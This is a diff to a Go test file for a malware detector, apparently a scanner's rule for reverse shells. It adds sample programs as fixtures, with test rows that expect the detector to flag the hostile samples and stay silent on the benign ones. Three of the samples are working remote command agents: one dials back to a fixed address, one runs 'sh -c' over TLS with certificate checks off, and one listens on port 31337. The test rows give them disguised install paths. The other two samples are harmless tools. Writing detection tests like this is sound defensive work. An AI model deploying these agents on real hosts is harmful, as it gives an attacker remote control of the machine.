@@ -39,6 +39,171 @@ func main() {
 	}
 }
 `
+	// Command loops that name no shell: an order read from the connection is run and its
+	// output kept (to be sent back).
+	goLineAgent = `package main
+
+import (
+	"bufio"
+	"fmt"
+	"net"
+	"os/exec"
+	"strings"
+	"time"
+)
+
+func home(addr string) net.Conn {
+	for {
+		c, err := net.Dial("tcp", addr)
+		if err == nil {
+			return c
+		}
+		time.Sleep(20 * time.Second)
+	}
+}
+
+func run(line string) string {
+	f := strings.Fields(line)
+	if len(f) == 0 {
+		return ""
+	}
+	out, err := exec.Command(f[0], f[1:]...).Output()
+	if err != nil {
+		return err.Error()
+	}
+	return string(out)
+}
+
+func main() {
+	c := home("198.51.100.23:7443")
+	r := bufio.NewReader(c)
+	for {
+		line, err := r.ReadString('\n')
+		if err != nil {
+			c = home("198.51.100.23:7443")
+			r = bufio.NewReader(c)
+			continue
+		}
+		fmt.Fprintln(c, run(line))
+	}
+}
+`
+	goTLSAgent = `package main
+
+import (
+	"bufio"
+	"crypto/tls"
+	"encoding/binary"
+	"os/exec"
+)
+
+func main() {
+	c, err := tls.Dial("tcp", "203.0.113.80:443", &tls.Config{InsecureSkipVerify: true})
+	if err != nil {
+		return
+	}
+	s := bufio.NewScanner(c)
+	for s.Scan() {
+		out, _ := exec.Command("s"+"h", "-c", s.Text()).CombinedOutput()
+		binary.Write(c, binary.BigEndian, uint32(len(out)))
+		c.Write(out)
+	}
+}
+`
+	goJSONAgent = `package main
+
+import (
+	"encoding/json"
+	"net"
+	"os/exec"
+)
+
+type order struct {
+	Name string
+	Args []string
+}
+
+func main() {
+	ln, err := net.Listen("tcp", ":31337")
+	if err != nil {
+		return
+	}
+	for {
+		c, err := ln.Accept()
+		if err != nil {
+			continue
+		}
+		go func(c net.Conn) {
+			defer c.Close()
+			d, e := json.NewDecoder(c), json.NewEncoder(c)
+			for {
+				var o order
+				if d.Decode(&o) != nil {
+					return
+				}
+				out, err := exec.Command(o.Name, o.Args...).CombinedOutput()
+				e.Encode(map[string]any{"out": string(out), "err": err})
+			}
+		}(c)
+	}
+}
+`
+	// Tools that connect and start a process and are no shell: one waits for a port and then
+	// becomes its arguments, one restarts a service when a banner says it is unwell.
+	goWaitFor = `package main
+
+import (
+	"net"
+	"os"
+	"os/exec"
+	"syscall"
+	"time"
+)
+
+func main() {
+	for {
+		c, err := net.DialTimeout("tcp", os.Args[1], time.Second)
+		if err == nil {
+			c.Close()
+			break
+		}
+		time.Sleep(time.Second)
+	}
+	p, err := exec.LookPath(os.Args[2])
+	if err != nil {
+		os.Exit(127)
+	}
+	syscall.Exec(p, os.Args[2:], os.Environ())
+}
+`
+	goBannerWatch = `package main
+
+import (
+	"bufio"
+	"log"
+	"net"
+	"os/exec"
+	"strings"
+	"time"
+)
+
+func main() {
+	for range time.Tick(30 * time.Second) {
+		c, err := net.DialTimeout("tcp", "127.0.0.1:25", 5*time.Second)
+		ok := false
+		if err == nil {
+			line, _ := bufio.NewReader(c).ReadString('\n')
+			ok = strings.HasPrefix(line, "220")
+			c.Close()
+		}
+		if !ok {
+			if err := exec.Command("systemctl", "restart", "postfix").Run(); err != nil {
+				log.Print(err)
+			}
+		}
+	}
+}
+`
 	goClean = `package main
 
 import (
@@ -341,6 +506,14 @@ func TestCompiledBehaviour(t *testing.T) {
 		{"go reverse shell", "go", goReverseShell, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
 		{"go reverse shell with symbols", "go", goReverseShell, nil, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
 		{"go client", "go", goClean, nil, "/usr/local/bin/probe", ""},
+		{"go line agent", "go", goLineAgent, nil, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
+		{"stripped go line agent", "go", goLineAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
+		{"go tls agent running sh -c", "go", goTLSAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/tls-agent", "STRATA-RS-021/high"},
+		{"go json orders on a listener", "go", goJSONAgent, nil, "/opt/svc/svc", "STRATA-RS-021/high"},
+		{"go line agent among many functions", "go", goLineAgent + manyFuncs(120), []string{"-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
+		{"go wait-for-port exec", "go", goWaitFor, nil, "/usr/local/bin/wait-for", ""},
+		{"go banner watch restarting a service", "go", goBannerWatch, []string{"-ldflags=-s -w"}, "/usr/local/bin/smtp-watch", ""},
+
 		{"static C reverse shell", "c", cStaticShell, []string{"-static", "-O2"}, "/usr/bin/netd", "STRATA-RS-021/high"},
 		{"stripped static C reverse shell", "c", cStaticShell, []string{"-static", "-O2", "-s"}, "/usr/bin/netd", "STRATA-RS-021/high"},
 		{"stripped static C bind shell", "c", cStaticBind, []string{"-static", "-O0", "-s"}, "/usr/sbin/.sshd", "STRATA-RS-021/high"},
